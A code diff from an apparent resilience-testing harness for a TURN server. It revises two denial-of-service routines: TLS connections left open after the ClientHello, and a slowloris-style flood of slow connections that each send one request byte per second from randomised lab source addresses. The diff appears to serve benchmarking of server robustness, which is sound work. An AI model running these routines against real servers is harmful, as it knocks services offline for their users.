@@ -15,17 +15,17 @@ use turnserver::stun::TransactionId;
 use crate::attack::AttackArguments;
 use crate::load::allocation::{allocation, write};
 use crate::load::link::tls_config;
-use crate::load::{Commands, Outcome, Window, clock};
+use crate::load::{Commands, Outcome, clock};
 use crate::output::print;
 
 /// Clients that perform handshakes at a time.
-const THREADS: u64 = 32;
+const THREADS: u64 = 8;
 
 /// Connections that a thread keeps open after its ClientHello.
-const ABANDONED: usize = 32;
+const ABANDONED: usize = 128;
 
-/// Slow connections, and the time in which each sends a byte.
-const SLOW: usize = 2_000;
+/// The number of slow connections, and the time in which each sends a byte.
+pub(crate) const SLOW: usize = 2_000;
 const SLOW_INTERVAL: u64 = clock::SECOND;
 
 /// How a handshake ends.
@@ -67,7 +67,7 @@ pub(crate) fn tls(attack: &AttackArguments, commands: &Commands, handshake: Hand
 
 fn complete(server: SocketAddr, config: &Arc<ClientConfig>, rng: &mut StdRng) -> Outcome<()> {
     let session = ClientConnection::new(Arc::clone(config), server.ip().into())?;
-    let mut stream = StreamOwned::new(session, connect(server, rng, false)?);
+    let mut stream = StreamOwned::new(session, connect(server, rng)?);
     while stream.conn.is_handshaking() {
         stream.conn.complete_io(&mut stream.sock)?;
     }
@@ -81,7 +81,7 @@ fn abandon(
     open: &mut Vec<TcpStream>,
 ) -> Outcome<()> {
     let mut session = ClientConnection::new(Arc::clone(config), server.ip().into())?;
-    let mut stream = connect(server, rng, false)?;
+    let mut stream = connect(server, rng)?;
     session.write_tls(&mut stream)?;
     open.push(stream);
     if open.len() > ABANDONED {
@@ -91,49 +91,40 @@ fn abandon(
 }
 
 /// Connects from a random address of the attacker.
-fn connect(server: SocketAddr, rng: &mut StdRng, at_once: bool) -> io::Result<TcpStream> {
+fn connect(server: SocketAddr, rng: &mut StdRng) -> io::Result<TcpStream> {
     let own = Ipv4Addr::from_bits(0x0a01_0000 | rng.random_range(1..1 << 16));
     let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
     socket.bind(&SocketAddr::new(IpAddr::V4(own), 0).into())?;
-    if at_once {
-        socket.set_nonblocking(true)?;
-        // The handshake continues in the kernel.
-        let _ = socket.connect(&server.into());
-    } else {
-        socket.connect_timeout(&server.into(), Duration::from_secs(1))?;
-        socket.set_read_timeout(Some(Duration::from_secs(1)))?;
-    }
+    socket.connect_timeout(&server.into(), Duration::from_secs(1))?;
+    socket.set_read_timeout(Some(Duration::from_secs(1)))?;
     Ok(socket.into())
 }
 
-/// Keeps many connections open, each of which sends a byte of a request from time to time. Returns the number of those
-/// that were begun within the measurement.
+/// Keeps many connections open, each of which sends a byte of a request every second. Returns the number of those that
+/// the server ended within the measurement.
 pub(crate) fn slow(attack: &AttackArguments, commands: &Commands) -> Outcome<u64> {
     let request = write(&allocation(), TransactionId::new([3; 12]), None)?;
     let mut rng = StdRng::seed_from_u64(3);
+    let mut open = Vec::new();
+    for _ in 0..SLOW {
+        open.push((connect(attack.server, &mut rng)?, 0));
+    }
     print("ready");
-    let window: Window = commands.window()?;
-    clock::sleep_until(window.start);
-    let mut open: Vec<Option<(TcpStream, usize)>> = (0..SLOW).map(|_| None).collect();
-    let mut begun = 0;
+    let window = commands.window()?;
+    let mut ended = 0;
     for step in 0_u64.. {
         let due = window.start + step * SLOW_INTERVAL / SLOW as u64;
         if due >= window.to {
             break;
         }
         clock::sleep_until(due);
-        let index = usize::try_from(step).unwrap_or(0) % SLOW;
-        let Some(place) = open.get_mut(index) else { continue };
-        *place = match place.take() {
-            Some((mut stream, at)) => {
-                let byte = request.get(at..=at).unwrap_or_default();
-                (!byte.is_empty() && stream.write(byte).is_ok()).then_some((stream, at + 1))
-            }
-            None => {
-                begun += u64::from(window.counts(due));
-                Some((connect(attack.server, &mut rng, true)?, 0))
-            }
-        };
+        let Some((stream, at)) = open.get_mut(usize::try_from(step)? % SLOW) else { continue };
+        let byte = request.get(*at..=*at).unwrap_or_default();
+        *at += 1;
+        if byte.is_empty() || stream.write(byte).is_err() {
+            ended += u64::from(window.counts(due));
+            (*stream, *at) = (connect(attack.server, &mut rng)?, 0);
+        }
     }
-    Ok(begun)
+    Ok(ended)
 }
